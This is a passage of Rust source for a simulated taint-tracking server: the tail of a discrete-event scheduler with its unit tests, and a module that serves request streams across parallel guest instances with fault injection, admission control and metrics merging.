            heap.push(Reverse((t + slice, seq, Ev::SliceEnd(c))));
            seq += 1;
        }
        // Queue-depth series, recorded on change.
        let depth = (ready.len() + accept.len()) as u64;
        report.peak_queue_depth = report.peak_queue_depth.max(depth);
        if depth != last_depth {
            last_depth = depth;
            report.queue_depth.push((t, depth));
            if trace_events {
                report
                    .sched_events
                    .push((t, TraceKind::QueueDepth { depth, resident: resident as u64 }));
            }
        }
    }
    debug_assert_eq!(resident, 0, "every admitted connection must complete");
    debug_assert!(ready.is_empty() && accept.is_empty());
    report.dispositions = dispositions;
    debug_assert_eq!(
        report.shed,
        report.dispositions.iter().filter(|d| matches!(d, Disposition::Shed)).count() as u64,
        "shed counter must match shed dispositions"
    );
    report
}

#[cfg(test)]
mod tests {
    use super::*;

    fn trace(legs: &[(u64, u64)]) -> Vec<Segment> {
        legs.iter().map(|&(cpu, io)| Segment { cpu, io }).collect()
    }

    fn cfg(workers: usize) -> OpenLoopConfig {
        OpenLoopConfig { workers, accept_cap: 16, max_resident: 8, quantum: 0 }
    }

    #[test]
    fn single_connection_runs_start_to_finish() {
        let r = simulate(&[100], &[trace(&[(50, 200), (30, 0)])], &cfg(1), false);
        assert_eq!(r.shed, 0);
        match r.dispositions[0] {
            Disposition::Done { admitted, started, finished, slot } => {
                assert_eq!(admitted, 100);
                assert_eq!(started, 100);
                // 100 arrive + 50 cpu + 200 io + 30 cpu.
                assert_eq!(finished, 380);
                assert_eq!(slot, 0);
            }
            d => panic!("expected completion, got {d:?}"),
        }
        assert_eq!(r.wall_cycles, 380);
        assert_eq!(r.busy_cycles, 80);
    }

    #[test]
    fn one_worker_serializes_two_guests_parks_overlap() {
        // Two identical connections arriving together on one worker: cpu
        // legs serialize, io waits overlap.
        let t = trace(&[(100, 1000)]);
        let r = simulate(&[0, 0], &[t.clone(), t], &cfg(1), false);
        let f: Vec<u64> = r
            .dispositions
            .iter()
            .map(|d| match d {
                Disposition::Done { finished, .. } => *finished,
                Disposition::Shed => panic!("shed"),
            })
            .collect();
        // c0: cpu 0..100, io till 1100. c1: cpu 100..200, io till 1200.
        assert_eq!(f, vec![1100, 1200]);
    }

    #[test]
    fn two_workers_run_cpu_legs_concurrently() {
        let t = trace(&[(100, 1000)]);
        let r = simulate(&[0, 0], &[t.clone(), t], &cfg(2), false);
        let f: Vec<u64> = r
            .dispositions
            .iter()
            .map(|d| match d {
                Disposition::Done { finished, .. } => *finished,
                Disposition::Shed => panic!("shed"),
            })
            .collect();
        assert_eq!(f, vec![1100, 1100]);
    }

    #[test]
    fn quantum_interleaves_long_legs_fairly() {
        // One long leg and one short leg on one worker: with slicing the
        // short connection finishes long before the long one; without, it
        // waits for the whole long leg.
        let long = trace(&[(1000, 0)]);
        let short = trace(&[(10, 0)]);
        let unsliced = simulate(&[0, 1], &[long.clone(), short.clone()], &cfg(1), false);
        let sliced = simulate(
            &[0, 1],
            &[long, short],
            &OpenLoopConfig { workers: 1, quantum: 50, ..cfg(1) },
            false,
        );
        let fin = |r: &DesReport, c: usize| match r.dispositions[c] {
            Disposition::Done { finished, .. } => finished,
            Disposition::Shed => panic!("shed"),
        };
        assert_eq!(fin(&unsliced, 1), 1010, "short waits out the whole long leg");
        assert_eq!(fin(&sliced, 1), 60, "one quantum of the long leg, then the short leg");
        assert_eq!(fin(&sliced, 0), 1010, "slicing only reorders, never loses cycles");
    }

    #[test]
    fn admission_control_sheds_overflow_deterministically() {
        // 1 resident slot, accept queue of 1, three simultaneous arrivals:
        // the third is shed.
        let t = trace(&[(100, 0)]);
        let cfg = OpenLoopConfig { workers: 1, accept_cap: 1, max_resident: 1, quantum: 0 };
        let r = simulate(&[0, 0, 0], &[t.clone(), t.clone(), t], &cfg, false);
        assert_eq!(r.shed, 1);
        assert!(matches!(r.dispositions[2], Disposition::Shed));
        assert!(matches!(r.dispositions[0], Disposition::Done { .. }));
        assert!(matches!(r.dispositions[1], Disposition::Done { .. }));
        assert_eq!(r.peak_resident, 1);
    }

    #[test]
    fn queue_depth_series_tracks_backlog() {
        let t = trace(&[(100, 0)]);
        let cfg = OpenLoopConfig { workers: 1, accept_cap: 16, max_resident: 8, quantum: 0 };
        let r = simulate(&[0, 0, 0, 0], &[t.clone(), t.clone(), t.clone(), t], &cfg, false);
        assert!(r.peak_queue_depth >= 3, "three connections queue behind the first");
        // Depth series is on-change and ends drained.
        assert_eq!(r.queue_depth.last().map(|&(_, d)| d), Some(0));
        let depths: Vec<u64> = r.queue_depth.iter().map(|&(_, d)| d).collect();
        let mut deduped = depths.clone();
        deduped.dedup();
        assert_eq!(depths, deduped, "series records changes only");
    }

    #[test]
    fn zero_cpu_segments_terminate() {
        // Degenerate traces (cpu 0, io 0) must still complete.
        let r = simulate(&[0], &[trace(&[(0, 0), (0, 5), (0, 0)])], &cfg(1), false);
        assert!(matches!(r.dispositions[0], Disposition::Done { finished: 5, .. }));
    }

    #[test]
    fn slots_are_dense_and_reused() {
        // Sequential connections on one slot: both get slot 0.
        let t = trace(&[(10, 0)]);
        let cfg = OpenLoopConfig { workers: 1, accept_cap: 4, max_resident: 1, quantum: 0 };
        let r = simulate(&[0, 1000], &[t.clone(), t], &cfg, true);
        for d in &r.dispositions {
            assert!(matches!(d, Disposition::Done { slot: 0, .. }));
        }
        assert!(r
            .sched_events
            .iter()
            .any(|(_, k)| matches!(k, TraceKind::Admitted { slot: 0, .. })));
    }

    #[test]
    fn simulation_is_deterministic() {
        let traces: Vec<Vec<Segment>> =
            (0..64).map(|i| trace(&[(100 + i * 7, 500 + i * 13), (50, 0)])).collect();
        let arrivals: Vec<u64> = (0..64).map(|i| i * 137).collect();
        let cfg = OpenLoopConfig { workers: 4, accept_cap: 8, max_resident: 16, quantum: 75 };
        let a = simulate(&arrivals, &traces, &cfg, true);
        let b = simulate(&arrivals, &traces, &cfg, true);
        assert_eq!(a.dispositions, b.dispositions);
        assert_eq!(a.wall_cycles, b.wall_cycles);
        assert_eq!(a.queue_depth, b.queue_depth);
        assert_eq!(a.sched_events.len(), b.sched_events.len());
    }
}
