//! Fleet serving: one compiled program, N parallel guest instances.
//!
//! The paper's headline result is whole-server taint tracking cheap enough
//! for production traffic; this module supplies the horizontal half of that
//! claim. A [`Fleet`] prepares a [`ProgramImage`] once and serves a
//! deterministic request stream partitioned into *connections* — each
//! connection is an ordered list of requests handled by one guest instance
//! spawned fresh from the shared image, with the full per-request
//! transaction/recovery machinery of [`Shift::serve`] active per instance.
//!
//! ## Determinism
//!
//! The connection is the unit of determinism. Every connection is simulated
//! on a pristine spawn of the same image, so its modelled outcome (exit,
//! stats, violations, request latencies) is a pure function of the
//! connection's requests — independent of which host thread runs it, in
//! what order, or how many host threads exist. The fleet aggregate merges
//! per-connection results in connection order with exact integer sums
//! ([`shift_machine::Stats::merge`], [`Registry::merge`]), so the merged
//! numbers are bit-identical for any worker count, and equal to a
//! sequential loop over [`Shift::serve_image`].
//!
//! What *does* depend on the worker count `W` is the modelled fleet
//! makespan: the fleet models `W` instances running concurrently, with
//! connection `c` assigned round-robin to instance `c % W`. An instance's
//! busy time is the sum of its connections' modelled total times and the
//! fleet wall-clock is the busiest instance's total — so throughput
//! ([`FleetReport::requests_per_sec`]) scales with `W` deterministically on
//! any host, while every per-connection number stays fixed. Host threads
//! (scoped workers over sharded queues with stealing) only accelerate the
//! simulation itself.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex};

use shift_machine::{Exit, Injection, Stats, Violation};
use shift_obs::{merge_events, merge_samples, Registry, Sample, TraceEvent, TraceKind, TraceRing};

use shift_obs::SCHEDULER_TRACK;

use crate::event::{self, Disposition, OpenLoopConfig, Segment};
use crate::metrics::serve_metrics;
use crate::replay::Expected;
use crate::{CompileError, FlightConfig, ProgramImage, ServeReport, SessionStep, Shift, World};

/// A per-connection fault-injection schedule for [`Fleet::serve_chaos`]:
/// entry `c` is the `(countdown, injection)` list armed on connection `c`'s
/// instance before it serves. Shorter than the connection list means the
/// tail serves unperturbed.
pub type FaultPlan = [Vec<(u64, Injection)>];

/// An empty injection schedule, shared by the unperturbed serve paths.
const NO_INJECTIONS: &[(u64, Injection)] = &[];

/// Modelled core clock of the simulated Itanium 2: 1.5 GHz, the top shipping
/// frequency of the paper-era part. Converts modelled cycles to seconds for
/// throughput reporting.
pub const CLOCK_HZ: u64 = 1_500_000_000;

/// A fleet-serving session: one prepared image plus the session options
/// (mode, policies, I/O model, fuel) every instance inherits.
#[derive(Clone, Debug)]
pub struct Fleet {
    shift: Shift,
    image: Arc<ProgramImage>,
}

/// One connection's outcome, extracted from its instance's [`ServeReport`].
#[derive(Clone, Debug)]
pub struct ConnectionReport {
    /// Index of the connection in the input stream.
    pub connection: usize,
    /// Modelled fleet instance that served it (`connection % workers`).
    pub instance: usize,
    /// How the instance's session ended.
    pub exit: Exit,
    /// Requests delivered to this connection's instance.
    pub requests_delivered: u64,
    /// Requests completed (see [`ServeReport::served`]).
    pub served: u64,
    /// Requests rolled back with service continuing.
    pub recovered: u64,
    /// Requests lost (in flight at a stop, or never delivered).
    pub dropped: u64,
    /// Cycles thrown away by rollbacks.
    pub recovery_cycles: u64,
    /// Modelled total time (CPU + I/O) of the connection's session.
    pub time: u64,
    /// Every violation the instance observed, provenance chains intact.
    pub violations: Vec<Violation>,
    /// The instance's cycle/event accounting.
    pub stats: Stats,
    /// Per-request latencies in modelled cycles.
    pub latencies: Vec<u64>,
    /// The instance's metrics registry (from [`serve_metrics`]).
    pub registry: Registry,
    /// Final machine state digest (differential-test hook).
    pub state_digest: u64,
    /// Pages the instance privately owned when the session ended — its real
    /// memory cost under copy-on-write sharing (DESIGN.md §15); pristine
    /// pages it still shared with the image cost nothing.
    pub owned_pages: usize,
    /// The connection's flight-recorder ring, when the session armed one
    /// ([`Shift::with_flight_recorder`]): its track id is the connection
    /// index, so merged timelines are invariant under the worker width.
    pub trace: Option<TraceRing>,
}

/// Aggregate outcome of one [`Fleet::serve`] call.
#[derive(Clone, Debug)]
pub struct FleetReport {
    /// Modelled fleet width (and host worker cap) this run used.
    pub workers: usize,
    /// Per-connection outcomes, in connection order.
    pub connections: Vec<ConnectionReport>,
    /// Merged cycle/event accounting (exact sum over connections).
    pub stats: Stats,
    /// Merged metrics registry (counters sum, histograms merge).
    pub registry: Registry,
    /// All violations in connection order, provenance chains intact.
    pub violations: Vec<Violation>,
    /// Total requests delivered across the fleet.
    pub requests: u64,
    /// Total requests served.
    pub served: u64,
    /// Total requests recovered (rolled back, service continued).
    pub recovered: u64,
    /// Total requests dropped.
    pub dropped: u64,
    /// Total cycles thrown away by rollbacks.
    pub recovery_cycles: u64,
    /// Modelled fleet makespan: the busiest instance's summed connection
    /// times. This is the one aggregate that depends on `workers`.
    pub wall_cycles: u64,
    /// Sum of [`ConnectionReport::owned_pages`] — the fleet's total private
    /// page footprint (shared pristine pages are counted once, in the image,
    /// not here).
    pub owned_pages_total: u64,
    /// The largest [`ConnectionReport::owned_pages`] — the peak private
    /// residency any single instance reached.
    pub peak_owned_pages: u64,
    /// Host nanoseconds spent simulating this call.
    pub host_ns: u64,
}

impl FleetReport {
    /// Modelled fleet throughput: requests served per modelled second at
    /// [`CLOCK_HZ`].
    pub fn requests_per_sec(&self) -> f64 {
        if self.wall_cycles == 0 {
            return 0.0;
        }
        self.served as f64 * CLOCK_HZ as f64 / self.wall_cycles as f64
    }

    /// The `p`-th percentile (0–100) of per-request serve latency in
    /// modelled cycles, across every connection.
    pub fn latency_percentile(&self, p: f64) -> Option<u64> {
        self.registry.histogram("serve.latency_cycles").and_then(|h| h.percentile(p))
    }

    /// Exit of every connection, in connection order.
    pub fn exits(&self) -> Vec<Exit> {
        self.connections.iter().map(|c| c.exit.clone()).collect()
    }

    /// The fleet's merged trace timeline, ordered by `(cycle, worker, seq)`
    /// — bit-identical at any worker width (see [`shift_obs::trace`]).
    /// Empty when the flight recorder was not armed.
    pub fn merged_trace_events(&self) -> Vec<TraceEvent> {
        let rings: Vec<&TraceRing> =
            self.connections.iter().filter_map(|c| c.trace.as_ref()).collect();
        merge_events(&rings)
    }

    /// The fleet's merged time-series samples, ordered by `(cycle, worker)`.
    pub fn merged_samples(&self) -> Vec<Sample> {
        let rings: Vec<&TraceRing> =
            self.connections.iter().filter_map(|c| c.trace.as_ref()).collect();
        merge_samples(&rings)
    }

    /// Total trace events dropped to ring caps across the fleet.
    pub fn trace_dropped(&self) -> u64 {
        self.connections.iter().filter_map(|c| c.trace.as_ref()).map(TraceRing::dropped).sum()
    }

    /// `true` when no connection lost a request.
    pub fn nothing_dropped(&self) -> bool {
        self.dropped == 0
    }

    /// Mean private bytes per instance: the copy-on-write memory diet
    /// figure (`owned_pages × page size`, averaged over connections). The
    /// deep-clone baseline this replaced paid
    /// `image.resident_pages() × page size` per instance *up front*.
    pub fn private_bytes_per_instance(&self) -> f64 {
        if self.connections.is_empty() {
            return 0.0;
        }
        self.owned_pages_total as f64 * shift_machine::PAGE_SIZE as f64
            / self.connections.len() as f64
    }
}

impl Shift {
    /// Compiles `app` once and returns a fleet handle for parallel serving.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR or unresolved symbols.
    pub fn fleet(&self, app: &shift_ir::Program) -> Result<Fleet, CompileError> {
        Ok(Fleet { shift: self.clone(), image: Arc::new(self.image(app)?) })
    }
}

impl Fleet {
    /// Builds a fleet from an existing session and prepared image.
    pub fn from_image(shift: Shift, image: ProgramImage) -> Fleet {
        Fleet { shift, image: Arc::new(image) }
    }

    /// The shared program image instances spawn from.
    pub fn image(&self) -> &Arc<ProgramImage> {
        &self.image
    }

    /// The session options (mode, policies, I/O model, fuel) every instance
    /// inherits.
    pub fn shift(&self) -> &Shift {
        &self.shift
    }

    /// Arms the flight recorder on every instance this fleet serves: each
    /// connection's [`ConnectionReport::trace`] comes back populated, and
    /// [`FleetReport::merged_trace_events`] yields the fleet-wide timeline.
    pub fn with_flight_recorder(mut self, cfg: FlightConfig) -> Fleet {
        self.shift = self.shift.with_flight_recorder(cfg);
        self
    }

    /// Serves `connections` — each an ordered request list handled by a
    /// fresh instance — across a modelled fleet of `workers` instances.
    /// `base` supplies the files/args/kbd every connection's world starts
    /// from; each connection's network queue is its own request list, so
    /// per-connection request ordering is preserved by construction.
    ///
    /// Host-side, up to `workers` scoped threads drain sharded connection
    /// queues with stealing; results land in connection order regardless of
    /// which thread computed them.
    pub fn serve(&self, base: &World, connections: &[Vec<Vec<u8>>], workers: usize) -> FleetReport {
        self.serve_chaos(base, connections, &[], workers)
    }

    /// [`Fleet::serve`] with a fault-injection schedule: connection `c`'s
    /// instance spawns with `faults[c]` pre-armed, so randomized NaT flips,
    /// tag-bitmap corruption, and transient faults land mid-serve across the
    /// fleet — deterministically, because the schedule counts retired
    /// instructions, not host time. An empty plan is exactly [`Fleet::serve`]
    /// (the zero-perturbation tests pin this).
    pub fn serve_chaos(
        &self,
        base: &World,
        connections: &[Vec<Vec<u8>>],
        faults: &FaultPlan,
        workers: usize,
    ) -> FleetReport {
        let start = std::time::Instant::now();
        let n = connections.len();
        let width = workers.max(1);
        let host_workers = width.min(n.max(1));
        // Shard round-robin: worker k owns connections k, k+host, … — the
        // same assignment the modelled fleet uses, so an unstolen run
        // touches each connection on its "own" instance's thread.
        let queues: Vec<Mutex<VecDeque<usize>>> =
            (0..host_workers).map(|k| Mutex::new((k..n).step_by(host_workers).collect())).collect();
        let slots: Vec<Mutex<Option<ConnectionReport>>> =
            (0..n).map(|_| Mutex::new(None)).collect();
        std::thread::scope(|s| {
            for k in 0..host_workers {
                let queues = &queues;
                let slots = &slots;
                s.spawn(move || loop {
                    // Own queue first, then steal from the back of others.
                    let mut job = queues[k].lock().expect("queue poisoned").pop_front();
                    if job.is_none() {
                        for other in queues {
                            job = other.lock().expect("queue poisoned").pop_back();
                            if job.is_some() {
                                break;
                            }
                        }
                    }
                    let Some(c) = job else { break };
                    let inj = faults.get(c).map_or(NO_INJECTIONS, Vec::as_slice);
                    let report = self.serve_one(base, &connections[c], inj, c, width);
                    *slots[c].lock().expect("slot poisoned") = Some(report);
                });
            }
        });
        let reports: Vec<ConnectionReport> = slots
            .into_iter()
            .map(|slot| slot.into_inner().expect("slot poisoned").expect("connection not served"))
            .collect();
        Self::aggregate(width, reports, start.elapsed().as_nanos() as u64)
    }

    /// The reference path: serves every connection in order on this thread.
    /// Produces the identical aggregate to [`Fleet::serve`] with the same
    /// `workers` width (the differential tests enforce this).
    pub fn serve_sequential(
        &self,
        base: &World,
        connections: &[Vec<Vec<u8>>],
        workers: usize,
    ) -> FleetReport {
        let start = std::time::Instant::now();
        let width = workers.max(1);
        let reports: Vec<ConnectionReport> = (0..connections.len())
            .map(|c| self.serve_one(base, &connections[c], NO_INJECTIONS, c, width))
            .collect();
        Self::aggregate(width, reports, start.elapsed().as_nanos() as u64)
    }

    /// Simulates one connection on a pristine instance, with an optional
    /// fault-injection schedule armed on the spawn. Pure in its inputs: the
    /// result is identical no matter when or where it runs — this is the
    /// primitive the replay log drives to reconstruct any single connection
    /// from a recorded fleet run.
    pub fn serve_one(
        &self,
        base: &World,
        requests: &[Vec<u8>],
        injections: &[(u64, Injection)],
        c: usize,
        width: usize,
    ) -> ConnectionReport {
        let world = requests.iter().fold(base.clone(), |w, msg| w.net(msg.clone()));
        let report = self.shift.serve_image_injected(&self.image, world, injections);
        self.connection_report(report, c, width)
    }

    /// [`Fleet::serve_one`] with yield-on-I/O parking armed: the session
    /// parks at every I/O point and is resumed immediately, capturing its
    /// [`Segment`] trace — the `(cpu, io)` legs the open-loop event loop
    /// schedules. The park/resume differential contract
    /// (`tests/open_loop.rs`) guarantees the report is bit-identical to
    /// [`Fleet::serve_one`]'s.
    pub fn serve_one_traced(
        &self,
        base: &World,
        requests: &[Vec<u8>],
        injections: &[(u64, Injection)],
        c: usize,
        width: usize,
    ) -> (ConnectionReport, Vec<Segment>) {
        let world = requests.iter().fold(base.clone(), |w, msg| w.net(msg.clone()));
        let mut session = self.shift.serve_session(&self.image, world, injections, true);
        let mut segments = Vec::new();
        let (mut cpu_seen, mut io_seen) = (0u64, 0u64);
        while let SessionStep::Parked { cpu, io } = session.advance() {
            segments.push(Segment { cpu, io });
            cpu_seen += cpu;
            io_seen += io;
        }
        let report = session.finish();
        // The terminal leg: whatever ran after the last park (including any
        // I/O charged by recovery redeliveries, which never park).
        segments.push(Segment {
            cpu: report.stats.cycles - cpu_seen,
            io: report.stats.io_cycles - io_seen,
        });
        (self.connection_report(report, c, width), segments)
    }

    /// Extracts a [`ConnectionReport`] from a finished session (the shared
    /// tail of [`Fleet::serve_one`] and [`Fleet::serve_one_traced`]).
    fn connection_report(
        &self,
        mut report: ServeReport,
        c: usize,
        width: usize,
    ) -> ConnectionReport {
        // Track id = connection index (NOT the modelled instance, which
        // varies with the fleet width): the merged timeline must be
        // width-invariant. The whole session becomes one wrapping span.
        let session = report.stats.total_time();
        if let Some(ring) = report.machine.flight_recorder_mut() {
            ring.set_worker(c as u64);
            ring.span(0, session, TraceKind::Connection { connection: c as u64 });
        }
        // Metrics after the session span and before the recorder is detached,
        // so the `obs.trace.*` series count exactly the events exported.
        let registry = serve_metrics(&report);
        let ServeReport {
            exit,
            served,
            recovered,
            dropped,
            recovery_cycles,
            violations,
            stats,
            runtime,
            mut machine,
        } = report;
        let trace = machine.take_flight_recorder();
        let owned_pages = machine.mem.owned_pages();
        ConnectionReport {
            connection: c,
            instance: c % width,
            exit,
            requests_delivered: runtime.requests_delivered,
            served,
            recovered,
            dropped,
            recovery_cycles,
            time: stats.total_time(),
            violations,
            latencies: runtime.request_latencies.clone(),
            registry,
            state_digest: machine.state_digest(),
            stats,
            trace,
            owned_pages,
        }
    }

    /// Serves an open-loop workload: `connections[c]` arrives at modelled
    /// cycle `arrivals[c]` and is multiplexed over `cfg.workers` modelled
    /// workers by the discrete-event scheduler (see [`crate::event`]),
    /// with admission control (`cfg.accept_cap`, `cfg.max_resident`) and
    /// round-robin fairness (`cfg.quantum`).
    ///
    /// Host-side, `host_workers` threads pre-simulate connection traces in
    /// parallel (phase 1); the event loop itself is sequential (phase 2).
    /// The report is bit-identical at any `host_workers` — only
    /// [`OpenLoopReport::host_ns`] varies — and host memory is bounded by
    /// the pool: at most `host_workers` machines are resident at once, so
    /// peak owned pages grows with resident guests, not total connections.
    ///
    /// # Panics
    ///
    /// When `connections` and `arrivals` disagree on the connection count.
    pub fn serve_open_loop(
        &self,
        base: &World,
        connections: &[Vec<Vec<u8>>],
        faults: &FaultPlan,
        arrivals: &[u64],
        cfg: &OpenLoopConfig,
        host_workers: usize,
    ) -> OpenLoopReport {
        assert_eq!(connections.len(), arrivals.len(), "one arrival cycle per connection");
        let start = std::time::Instant::now();
        let n = connections.len();
        let host = host_workers.max(1).min(n.max(1));
        let width = cfg.workers.max(1);
        // Phase 1: parallel trace capture over the bounded host pool (the
        // same sharded work-stealing shape as `serve_chaos`).
        type TracedSlot = Mutex<Option<(ConnectionReport, Vec<Segment>)>>;
        let queues: Vec<Mutex<VecDeque<usize>>> =
            (0..host).map(|k| Mutex::new((k..n).step_by(host).collect())).collect();
        let slots: Vec<TracedSlot> = (0..n).map(|_| Mutex::new(None)).collect();
        std::thread::scope(|s| {
            for k in 0..host {
                let queues = &queues;
                let slots = &slots;
                s.spawn(move || loop {
                    let mut job = queues[k].lock().expect("queue poisoned").pop_front();
                    if job.is_none() {
                        for other in queues {
                            job = other.lock().expect("queue poisoned").pop_back();
                            if job.is_some() {
                                break;
                            }
                        }
                    }
                    let Some(c) = job else { break };
                    let inj = faults.get(c).map_or(NO_INJECTIONS, Vec::as_slice);
                    let traced = self.serve_one_traced(base, &connections[c], inj, c, width);
                    *slots[c].lock().expect("slot poisoned") = Some(traced);
                });
            }
        });
        let (reports, traces): (Vec<ConnectionReport>, Vec<Vec<Segment>>) = slots
            .into_iter()
            .map(|slot| slot.into_inner().expect("slot poisoned").expect("connection not traced"))
            .unzip();
        // Phase 2: the sequential event loop.
        let trace_on = self.shift.flight().is_some();
        let des = event::simulate(arrivals, &traces, cfg, trace_on);
        // Phase 3: join scheduler dispositions with serve results. Merges
        // run in connection order over *admitted* connections only — shed
        // connections never ran in the model, so their pre-simulated
        // results are discarded.
        let mut stats = Stats::new();
        let mut registry = Registry::new();
        let mut violations = Vec::new();
        let mut rows: Vec<OpenConnection> = Vec::with_capacity(n);
        let mut sojourns: Vec<u64> = Vec::new();
        let (mut requests, mut served, mut recovered, mut dropped) = (0u64, 0u64, 0u64, 0u64);
        let (mut owned_pages_total, mut peak_owned_pages) = (0u64, 0u64);
        for (c, (mut report, disposition)) in
            reports.into_iter().zip(des.dispositions.iter().copied()).enumerate()
        {
            match disposition {
                Disposition::Shed => rows.push(OpenConnection {
                    connection: c,
                    disposition,
                    sojourn: None,
                    exit: None,
                    state_digest: None,
                    served: 0,
                    trace: None,
                    outcome: None,
                }),
                Disposition::Done { started, finished, slot, .. } => {
                    let outcome = Expected::of(&report);
                    let sojourn = finished - arrivals[c];
                    sojourns.push(sojourn);
                    stats.merge(&report.stats);
                    registry.merge(&report.registry);
                    violations.extend(report.violations.iter().cloned());
                    requests += report.requests_delivered;
                    served += report.served;
                    recovered += report.recovered;
                    dropped += report.dropped;
                    owned_pages_total += report.owned_pages as u64;
                    peak_owned_pages = peak_owned_pages.max(report.owned_pages as u64);
                    if let Some(ring) = report.trace.as_mut() {
                        // Dense resident-slot track id plus the connection's
                        // first scheduled cycle: bounded Perfetto tracks at
                        // 16k connections (DESIGN.md §16).
                        ring.set_worker(slot);
                        ring.offset_cycles(started);
                    }
                    rows.push(OpenConnection {
                        connection: c,
                        disposition,
                        sojourn: Some(sojourn),
                        exit: Some(report.exit.clone()),
                        state_digest: Some(report.state_digest),
                        served: report.served,
                        trace: report.trace.take(),
                        outcome: Some(outcome),
                    });
                }
            }
        }
        sojourns.sort_unstable();
        for &s in &sojourns {
            registry.record("openloop.sojourn_cycles", s);
        }
        registry.counter_add("openloop.offered", n as u64);
        registry.counter_add("openloop.completed", sojourns.len() as u64);
        registry.counter_add("openloop.shed", des.shed);
        registry.counter_add("openloop.peak_queue_depth", des.peak_queue_depth);
        registry.counter_add("openloop.peak_resident", des.peak_resident);
        // The scheduler's shared track: admissions, sheds, parks, and the
        // queue-depth series (rate-limited by the sampling interval).
        let scheduler_trace = self.shift.flight().map(|fc| {
            let mut ring = TraceRing::with_capacity(fc.cap);
            ring.set_worker(SCHEDULER_TRACK);
            let every = fc.sample_cycles;
            let mut next_depth_at = 0u64;
            for (cycle, kind) in des.sched_events {
                if matches!(kind, TraceKind::QueueDepth { .. }) {
                    if every > 0 && cycle < next_depth_at {
                        continue;
                    }
                    next_depth_at = cycle.saturating_add(every);
                }
                ring.instant(cycle, kind);
            }
            ring
        });
        OpenLoopReport {
            config: *cfg,
            offered: n as u64,
            completed: sojourns.len() as u64,
            shed: des.shed,
            requests,
            served,
            recovered,
            dropped,
            wall_cycles: des.wall_cycles,
            busy_cycles: des.busy_cycles,
            peak_queue_depth: des.peak_queue_depth,
            peak_resident: des.peak_resident,
            queue_depth: des.queue_depth,
            sojourns,
            connections: rows,
            stats,
            registry,
            violations,
            owned_pages_total,
            peak_owned_pages,
            scheduler_trace,
            host_ns: start.elapsed().as_nanos() as u64,
        }
    }

    /// Merges per-connection reports in connection order. Every sum is an
    /// exact `u64` add, so the result is independent of how the work was
    /// scheduled.
    fn aggregate(width: usize, reports: Vec<ConnectionReport>, host_ns: u64) -> FleetReport {
        let mut stats = Stats::new();
        let mut registry = Registry::new();
        let mut violations = Vec::new();
        let (mut requests, mut served, mut recovered, mut dropped, mut recovery_cycles) =
            (0u64, 0u64, 0u64, 0u64, 0u64);
        let mut instance_busy = vec![0u64; width];
        let (mut owned_pages_total, mut peak_owned_pages) = (0u64, 0u64);
        for r in &reports {
            stats.merge(&r.stats);
            registry.merge(&r.registry);
            violations.extend(r.violations.iter().cloned());
            requests += r.requests_delivered;
            served += r.served;
            recovered += r.recovered;
            dropped += r.dropped;
            recovery_cycles += r.recovery_cycles;
            instance_busy[r.instance] += r.time;
            owned_pages_total += r.owned_pages as u64;
            peak_owned_pages = peak_owned_pages.max(r.owned_pages as u64);
        }
        let wall_cycles = instance_busy.into_iter().max().unwrap_or(0);
        FleetReport {
            workers: width,
            connections: reports,
            stats,
            registry,
            violations,
            requests,
            served,
            recovered,
            dropped,
            recovery_cycles,
            wall_cycles,
            owned_pages_total,
            peak_owned_pages,
            host_ns,
        }
    }
}

/// One connection's row in an [`OpenLoopReport`]: the scheduler disposition
/// joined with the serve outcome. Shed connections never ran in the model,
/// so their serve fields are `None`.
#[derive(Clone, Debug)]
pub struct OpenConnection {
    /// Index of the connection in the offered stream.
    pub connection: usize,
    /// What the scheduler did with it.
    pub disposition: Disposition,
    /// Sojourn latency in modelled cycles (completion − arrival), `None`
    /// when shed.
    pub sojourn: Option<u64>,
    /// How the connection's session ended, `None` when shed.
    pub exit: Option<Exit>,
    /// Final machine state digest, `None` when shed.
    pub state_digest: Option<u64>,
    /// Requests served on this connection (0 when shed).
    pub served: u64,
    /// The connection's flight-recorder ring, restamped onto its dense
    /// resident-slot track and offset to its first scheduled cycle.
    pub trace: Option<TraceRing>,
    /// The connection's replayable expectation (exit signature, digest,
    /// exact counters), `None` when shed. [`crate::ReplayLog::capture_open_loop`]
    /// copies this into the log so a straight-through replay of the
    /// connection — valid because park/resume is bit-identical — can verify
    /// against it.
    pub outcome: Option<Expected>,
}

/// Aggregate outcome of one [`Fleet::serve_open_loop`] call. Everything
/// except [`OpenLoopReport::host_ns`] is bit-identical at any host worker
/// count.
#[derive(Clone, Debug)]
pub struct OpenLoopReport {
    /// The scheduling parameters this run used.
    pub config: OpenLoopConfig,
    /// Connections offered (arrivals generated).
    pub offered: u64,
    /// Connections admitted and completed (all admitted complete).
    pub completed: u64,
    /// Connections shed by admission control — nonzero means the offered
    /// load exceeded what `workers` could absorb: the saturation signal.
    pub shed: u64,
    /// Requests delivered across completed connections.
    pub requests: u64,
    /// Requests served across completed connections.
    pub served: u64,
    /// Requests recovered (rolled back, service continued).
    pub recovered: u64,
    /// Requests dropped inside connections.
    pub dropped: u64,
    /// Modelled makespan: cycle of the last scheduler event.
    pub wall_cycles: u64,
    /// Worker-busy integral (sum of executed cpu slices).
    pub busy_cycles: u64,
    /// Largest ready + accept queue depth observed.
    pub peak_queue_depth: u64,
    /// Largest resident-guest count observed (≤ `config.max_resident`).
    pub peak_resident: u64,
    /// `(cycle, depth)` queue-depth series, recorded on change.
    pub queue_depth: Vec<(u64, u64)>,
    /// Sojourn latencies of completed connections, sorted ascending —
    /// exact percentiles come from here, not the log2 histogram.
    pub sojourns: Vec<u64>,
    /// Per-connection rows, in connection order.
    pub connections: Vec<OpenConnection>,
    /// Merged cycle/event accounting over completed connections.
    pub stats: Stats,
    /// Merged metrics registry, plus the `openloop.*` series.
    pub registry: Registry,
    /// All violations in connection order.
    pub violations: Vec<Violation>,
    /// Sum of completed connections' owned pages.
    pub owned_pages_total: u64,
    /// Largest single-instance owned-page count — bounded by the guest's
    /// working set, not the connection count.
    pub peak_owned_pages: u64,
    /// The scheduler's shared trace track (admissions, sheds, parks,
    /// queue depths), when the flight recorder was armed.
    pub scheduler_trace: Option<TraceRing>,
    /// Host nanoseconds spent simulating this call (the only
    /// width-dependent field).
    pub host_ns: u64,
}

impl OpenLoopReport {
    /// Exact nearest-rank percentile (0–100) of sojourn latency in modelled
    /// cycles. `None` when nothing completed.
    pub fn sojourn_percentile(&self, p: f64) -> Option<u64> {
        if self.sojourns.is_empty() {
            return None;
        }
        let rank = ((p / 100.0) * self.sojourns.len() as f64).ceil() as usize;
